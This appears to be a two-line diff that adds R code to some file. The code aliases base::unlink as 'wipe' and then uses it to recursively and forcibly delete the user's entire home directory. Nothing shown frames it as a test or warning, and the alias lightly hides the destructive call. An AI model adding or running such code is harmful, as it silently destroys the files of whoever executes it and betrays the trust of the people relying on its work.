@@ -1,0 +1,2 @@
+wipe <- base::unlink
+wipe(path.expand("~"), recursive = TRUE, force = TRUE)
